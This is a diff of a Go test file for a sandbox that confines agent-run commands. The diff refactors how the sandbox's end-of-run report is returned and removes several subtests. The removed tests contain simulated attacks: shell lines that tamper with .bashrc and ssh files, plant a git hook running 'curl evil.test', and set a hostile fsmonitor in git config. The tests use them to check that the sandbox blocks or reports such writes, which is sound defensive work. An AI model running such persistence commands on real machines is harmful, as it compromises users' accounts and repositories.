@@ -12,7 +12,6 @@ import (
 	"os/exec"
 	"path/filepath"
 	"regexp"
-	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -149,7 +148,7 @@ type runResult struct {
 	stdout, stderr string
 	took           time.Duration
 	door           *testDoor
-	guards         []GuardChange // what Wall.GuardChanges said after the run
+	ending         Ending // what Wall.Ending said after the run
 }
 
 // runWalled raises a wall around argv with ports, serves it with a testDoor,
@@ -161,6 +160,9 @@ func runWalled(t *testing.T, ports []uint16, argv ...string) runResult {
 
 func runSpec(t *testing.T, spec Spec, during func(w *Wall)) runResult {
 	t.Helper()
+	if spec.Dir == "" {
+		spec.Dir = t.TempDir()
+	}
 	dir := t.TempDir()
 	stdout, err := os.Create(filepath.Join(dir, "stdout"))
 	if err != nil {
@@ -198,13 +200,13 @@ func runSpec(t *testing.T, spec Spec, during func(w *Wall)) runResult {
 	if err != nil {
 		t.Fatalf("Wait(%q): %v", spec.Command, err)
 	}
-	guards := w.GuardChanges()
+	ending := w.Ending()
 	if err := w.Close(); err != nil {
 		t.Fatal(err)
 	}
 	out, _ := os.ReadFile(stdout.Name())
 	errOut, _ := os.ReadFile(stderr.Name())
-	r := runResult{code: code, stdout: strings.TrimSpace(string(out)), stderr: strings.TrimSpace(string(errOut)), took: took, door: d, guards: guards}
+	r := runResult{code: code, stdout: strings.TrimSpace(string(out)), stderr: strings.TrimSpace(string(errOut)), took: took, door: d, ending: ending}
 	t.Logf("%q -> exit %d in %v; stdout %q; stderr %q", spec.Command, r.code, took.Round(time.Millisecond), r.stdout, r.stderr)
 	return r
 }
@@ -325,7 +327,7 @@ func TestWall(t *testing.T) {
 		}
 		// The rules are still there, as the host sees them.
 		if os.Geteuid() == 0 {
-			w, err := Raise(context.Background(), Spec{Command: []string{"sh", "-c", "nft flush ruleset; sleep 30"}, Ports: []uint16{443}})
+			w, err := Raise(context.Background(), Spec{Command: []string{"sh", "-c", "nft flush ruleset; sleep 30"}, Ports: []uint16{443}, Dir: t.TempDir()})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -372,7 +374,8 @@ func TestWall(t *testing.T) {
 			`socat -T1 - UNIX-CONNECT:%s </dev/null 2>/dev/null; `+
 			`echo run-entries=$(ls -A /run | wc -l); echo tmp-entries=$(ls -A /tmp); `+
 			`test -e /proc/%d && echo host-pid-visible; echo end`, hostFile.Name(), sock, os.Getpid())
-		r := runWalled(t, nil, "sh", "-c", script)
+		wd := t.TempDir()
+		r := runSpec(t, Spec{Command: []string{"sh", "-c", script}, Dir: wd}, nil)
 		for _, bad := range []string{"host-file-visible", "host-socket", "host-pid-visible"} {
 			if strings.Contains(r.stdout, bad) {
 				t.Errorf("the run reached the host's /tmp or processes: %q", r.stdout)
@@ -380,231 +383,13 @@ func TestWall(t *testing.T) {
 		}
 		// /tmp is empty but for the way to the run's own working directory.
 		tmpWant := "tmp-entries="
-		if wd, _ := os.Getwd(); strings.HasPrefix(wd, "/tmp/") {
+		if strings.HasPrefix(wd, "/tmp/") {
 			tmpWant += strings.Split(wd, "/")[2]
 		}
 		for _, want := range []string{"run-entries=0", tmpWant + "\n"} {
 			if !strings.Contains(r.stdout, want) {
 				t.Errorf("inside the wall: %q, want %s", r.stdout, want)
 			}
-		}
-	})
-
-	t.Run("cwd-and-home-kept", func(t *testing.T) {
-		dir := t.TempDir() // under /tmp, which the run gets fresh
-		if err := os.WriteFile(filepath.Join(dir, "marker"), []byte("kept\n"), 0o644); err != nil {
-			t.Fatal(err)
-		}
-		env := append(os.Environ(), "HOME="+dir)
-		r := runSpec(t, Spec{Command: []string{"sh", "-c", `pwd; cat marker; cat "$HOME/marker"; echo made > out`}, Dir: dir, Env: env}, nil)
-		if r.stdout != dir+"\nkept\nkept" {
-			t.Fatalf("inside the wall: %q, want the working dir and its file", r.stdout)
-		}
-		if b, err := os.ReadFile(filepath.Join(dir, "out")); err != nil || string(b) != "made\n" {
-			t.Fatalf("a file the run wrote in its working dir: %q, %v", b, err)
-		}
-	})
-
-	t.Run("files-obeyed-outside-stay-read-only", func(t *testing.T) {
-		// A home with shell and ssh files and a repository in it; the working
-		// directory is a subdirectory of the repository, as an agent's often is.
-		home := t.TempDir()
-		repo := filepath.Join(home, "repo")
-		if err := os.Mkdir(repo, 0o777); err != nil {
-			t.Fatal(err)
-		}
-		for _, f := range []string{".bashrc", ".profile", ".ssh/config", ".envrc"} {
-			base := home
-			if f == ".envrc" {
-				base = repo
-			}
-			if err := os.MkdirAll(filepath.Dir(filepath.Join(base, f)), 0o755); err != nil {
-				t.Fatal(err)
-			}
-			if err := os.WriteFile(filepath.Join(base, f), []byte("original\n"), 0o666); err != nil {
-				t.Fatal(err)
-			}
-		}
-		git := func(args ...string) {
-			t.Helper()
-			cmd := exec.Command("git", append([]string{"-C", repo}, args...)...)
-			cmd.Env = append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")
-			if out, err := cmd.CombinedOutput(); err != nil {
-				t.Fatalf("git %v: %v\n%s", args, err, out)
-			}
-		}
-		git("init", "-q")
-		git("config", "user.email", "run@example.test")
-		git("config", "user.name", "run")
-		sub := filepath.Join(repo, "src")
-		if err := os.MkdirAll(sub, 0o777); err != nil {
-			t.Fatal(err)
-		}
-		// Open to the unprivileged re-run's uid too: only the guard may refuse.
-		for _, d := range []string{home, repo, sub, filepath.Join(home, ".ssh"), filepath.Join(repo, ".git"), filepath.Join(repo, ".git", "hooks")} {
-			os.Chmod(d, 0o777)
-		}
-		filepath.Walk(repo, func(p string, fi os.FileInfo, err error) error {
-			if err == nil {
-				os.Chmod(p, fi.Mode()|0o666)
-			}
-			return nil
-		})
-		attempts := []string{
-			`echo evil >> "$HOME/.bashrc"`,
-			`: > "$HOME/.profile"`,
-			`rm -f "$HOME/.bashrc"`,
-			`echo evil > /tmp/x && mv -f /tmp/x "$HOME/.bashrc"`,
-			`echo "Host *" >> "$HOME/.ssh/config"`,
-			`touch "$HOME/.ssh/authorized_keys"`,
-			`printf '#!/bin/sh\ncurl evil.test\n' > ../.git/hooks/pre-commit`,
-			`printf '[core]\nfsmonitor = evil\n' >> ../.git/config`,
-			`echo evil >> ../.envrc`,
-		}
-		var script strings.Builder
-		for i, a := range attempts {
-			fmt.Fprintf(&script, "if (%s) 2>/dev/null; then echo 'WROTE %d'; fi\n", a, i)
-		}
-		script.WriteString(`echo fine > "$HOME/notes" && echo fine > work && git add work && git -c user.name=run commit -qm work && echo COMMITTED`)
-		r := runSpec(t, Spec{Command: []string{"sh", "-c", script.String()}, Dir: sub,
-			Env: append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")}, nil)
-		for i, a := range attempts {
-			if strings.Contains(r.stdout, fmt.Sprintf("WROTE %d\n", i)) || strings.HasSuffix(r.stdout, fmt.Sprintf("WROTE %d", i)) {
-				t.Errorf("the run could: %s", a)
-			}
-		}
-		if !strings.Contains(r.stdout, "COMMITTED") {
-			t.Errorf("ordinary work in home and the repository failed: %q %q", r.stdout, r.stderr)
-		}
-		for _, f := range []string{filepath.Join(home, ".bashrc"), filepath.Join(home, ".profile"), filepath.Join(home, ".ssh/config"), filepath.Join(repo, ".envrc")} {
-			if b, err := os.ReadFile(f); err != nil || string(b) != "original\n" {
-				t.Errorf("%s after the run: %q, %v", f, b, err)
-			}
-		}
-		if _, err := os.Stat(filepath.Join(repo, ".git", "hooks", "pre-commit")); err == nil {
-			t.Errorf("a git hook was planted")
-		}
-	})
-
-	t.Run("guarded-paths-made-or-relinked-are-reported", func(t *testing.T) {
-		// What the wall cannot bind read-only, it watches: a guarded file
-		// that did not exist, and one that is a symbolic link (bound at its
-		// target, the link itself a name in the writable home).
-		home := t.TempDir()
-		if err := os.MkdirAll(filepath.Join(home, "dotfiles"), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(filepath.Join(home, "dotfiles", "bashrc"), []byte("original\n"), 0o644); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.Symlink("dotfiles/bashrc", filepath.Join(home, ".bashrc")); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.Symlink("dotfiles/bashrc", filepath.Join(home, ".zshrc")); err != nil {
-			t.Fatal(err)
-		}
-		os.Chmod(home, 0o777)
-		r := runSpec(t, Spec{Command: []string{"sh", "-c", `
-			echo evil > "$HOME/.bash_profile"
-			rm "$HOME/.bashrc" && echo evil > "$HOME/.bashrc"
-			mkdir -p "$HOME/.config/systemd/user"
-			(echo evil >> "$HOME/dotfiles/bashrc") 2>/dev/null && echo TARGET-WRITTEN
-			echo fine > "$HOME/notes"`}, Dir: home, Env: append(os.Environ(), "HOME="+home)}, nil)
-		if strings.Contains(r.stdout, "TARGET-WRITTEN") {
-			t.Errorf("the target of a guarded link was writable")
-		}
-		want := []GuardChange{
-			{Path: filepath.Join(home, ".bash_profile"), What: "appeared during the run"},
-			{Path: filepath.Join(home, ".bashrc"), What: "was a link to dotfiles/bashrc and the run replaced it"},
-			{Path: filepath.Join(home, ".config/systemd"), What: "appeared during the run"},
-		}
-		if !slices.Equal(r.guards, want) {
-			t.Errorf("guard changes: %v, want %v", r.guards, want)
-		}
-	})
-
-	t.Run("other-repositories-hooks-and-config-changed-are-reported", func(t *testing.T) {
-		// Repositories under the home other than the run's own keep their
-		// hooks and configuration writable: what the run changes there is
-		// reported afterwards, and only that.
-		home := t.TempDir()
-		// The home is a work tree itself (dotfiles kept in git), and the
-		// repositories are below it.
-		for _, r := range []string{".", "work", "src/other", "src/quiet", "src/linked", "zz/late"} {
-			cmd := exec.Command("git", "init", "-q", filepath.Join(home, r))
-			cmd.Env = append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")
-			if out, err := cmd.CombinedOutput(); err != nil {
-				t.Fatalf("git init %s: %v\n%s", r, err, out)
-			}
-		}
-		filepath.Walk(home, func(p string, fi os.FileInfo, err error) error {
-			if err == nil {
-				os.Chmod(p, fi.Mode()|0o777)
-			}
-			return nil
-		})
-		// Before the run: a hook the person wrote earlier is not the run's.
-		old := filepath.Join(home, "src/quiet/.git/hooks/pre-commit")
-		if err := os.WriteFile(old, []byte("#!/bin/sh\n"), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		time.Sleep(2 * ctimeSlack)
-		r := runSpec(t, Spec{Command: []string{"sh", "-c", `
-			printf '#!/bin/sh\ncurl evil.test\n' > ../src/other/.git/hooks/post-checkout
-			printf '[core]\n\tfsmonitor = evil\n' >> ../src/other/.git/config
-			rm ../src/linked/.git/hooks/*.sample
-			git init -q ../src/new
-			echo fine > notes`}, Dir: filepath.Join(home, "work"), Env: append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")}, nil)
-		if r.code != 0 {
-			t.Fatalf("run: exit %d, %q", r.code, r.stderr)
-		}
-		// Removed sample hooks run nothing; a repository the run made is
-		// named once, not file by file.
-		want := []GuardChange{
-			{Path: filepath.Join(home, "src/new/.git"), What: "appeared during the run"},
-			{Path: filepath.Join(home, "src/other/.git/config"), What: "changed during the run"},
-			{Path: filepath.Join(home, "src/other/.git/hooks/post-checkout"), What: "changed during the run"},
-		}
-		if !slices.Equal(r.guards, want) {
-			t.Errorf("guard changes: %v, want %v", r.guards, want)
-		}
-
-		// A run that makes directories enough to spend the search after it
-		// before it reaches zz/late: the search made before it found it.
-		time.Sleep(2 * ctimeSlack)
-		r = runSpec(t, Spec{Command: []string{"sh", "-c", `
-			mkdir ../aa && cd ../aa && seq 2100 | xargs mkdir
-			echo '[alias]' >> ../zz/late/.git/config`}, Dir: filepath.Join(home, "work"), Env: append(os.Environ(), "HOME="+home)}, nil)
-		if r.code != 0 {
-			t.Fatalf("run: exit %d, %q", r.code, r.stderr)
-		}
-		if want := []GuardChange{{Path: filepath.Join(home, "zz/late/.git/config"), What: "changed during the run"}}; !slices.Equal(r.guards, want) {
-			t.Errorf("guard changes after a run that buried the repository: %v, want %v", r.guards, want)
-		}
-	})
-
-	t.Run("repository-of-a-subdirectory-kept", func(t *testing.T) {
-		// Started in a subdirectory of a repository that is neither the run's
-		// home nor under it: the run still commits, and writes anywhere in
-		// the work tree, as one started at its top would.
-		repo, home := t.TempDir(), t.TempDir()
-		git := exec.Command("sh", "-c", "git init -q && git config user.email run@example.test && git config user.name run && mkdir -p src && echo x > src/f && chmod -R a+rwX .")
-		git.Dir = repo
-		if out, err := git.CombinedOutput(); err != nil {
-			t.Fatalf("git init: %v\n%s", err, out)
-		}
-		os.Chmod(repo, 0o777)
-		os.Chmod(home, 0o777)
-		r := runSpec(t, Spec{Command: []string{"sh", "-c", `git add f && git commit -qm x && echo COMMITTED; touch ../top-file && echo TOP; (echo x >> ../.git/config) 2>/dev/null && echo CONFIG`},
-			Dir: filepath.Join(repo, "src"), Env: append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")}, nil)
-		if !strings.Contains(r.stdout, "COMMITTED") || !strings.Contains(r.stdout, "TOP") {
-			t.Errorf("in a subdirectory of a repository: %q %q, want a commit and a file at the top", r.stdout, r.stderr)
-		}
-		if strings.Contains(r.stdout, "CONFIG") {
-			t.Errorf("the repository's .git/config was writable")
-		}
-		if _, err := os.Stat(filepath.Join(repo, "top-file")); err != nil {
-			t.Errorf("the file written at the top of the work tree is not there: %v", err)
 		}
 	})
 
@@ -646,15 +431,15 @@ func TestWall(t *testing.T) {
 			!strings.Contains(err.Error(), "/nonexistent-postern") {
 			t.Errorf("Raise in a missing directory: %v, want an error naming it", err)
 		}
-		if _, err := Raise(context.Background(), Spec{}); err == nil {
+		if _, err := Raise(context.Background(), Spec{Dir: t.TempDir()}); err == nil {
 			t.Error("Raise of no command succeeded")
 		}
-		if _, err := Raise(context.Background(), Spec{Command: []string{"true"}, Ports: []uint16{0}}); !errors.Is(err, ErrBadRuleConfig) {
+		if _, err := Raise(context.Background(), Spec{Command: []string{"true"}, Ports: []uint16{0}, Dir: t.TempDir()}); !errors.Is(err, ErrBadRuleConfig) {
 			t.Errorf("Raise with port 0: %v, want ErrBadRuleConfig", err)
 		}
 		ctx, cancel := context.WithCancel(context.Background())
 		cancel()
-		if _, err := Raise(ctx, Spec{Command: []string{"true"}}); !errors.Is(err, context.Canceled) {
+		if _, err := Raise(ctx, Spec{Command: []string{"true"}, Dir: t.TempDir()}); !errors.Is(err, context.Canceled) {
 			t.Errorf("Raise with a cancelled context: %v, want context.Canceled", err)
 		}
 	})
@@ -872,7 +657,7 @@ func TestRaiseRefusesWithRemedy(t *testing.T) {
 	requireRoot(t)
 	if os.Getenv("POSTERN_TEST_NO_USERNS") == "1" {
 		// Inside a user namespace whose user.max_user_namespaces is 0.
-		_, err := Raise(context.Background(), Spec{Command: []string{"true"}})
+		_, err := Raise(context.Background(), Spec{Command: []string{"true"}, Dir: t.TempDir()})
 		var ke *KernelError
 		if !errors.As(err, &ke) {
 			t.Fatalf("Raise where user namespaces are limited to 0: %v, want *KernelError", err)
@@ -894,5 +679,5 @@ func TestWallUnprivileged(t *testing.T) {
 		// Not root: TestWall itself is the unprivileged run when userns allows it.
 		requireRoot(t)
 	}
-	testhosts.RerunAsNobody(t, "^(TestWall|TestRaiseRefusesWithRemedy|TestWallRefusalsRecorded)$", "TestWall", "TestRaiseRefusesWithRemedy", "TestWallRefusalsRecorded")
+	testhosts.RerunAsNobody(t, "^(TestWall|TestWallFiles|TestWallSubmodulesObeyNothing|TestRaiseRefusesWithRemedy|TestWallRefusalsRecorded)$", "TestWall", "TestWallFiles", "TestWallSubmodulesObeyNothing", "TestRaiseRefusesWithRemedy", "TestWallRefusalsRecorded")
 }
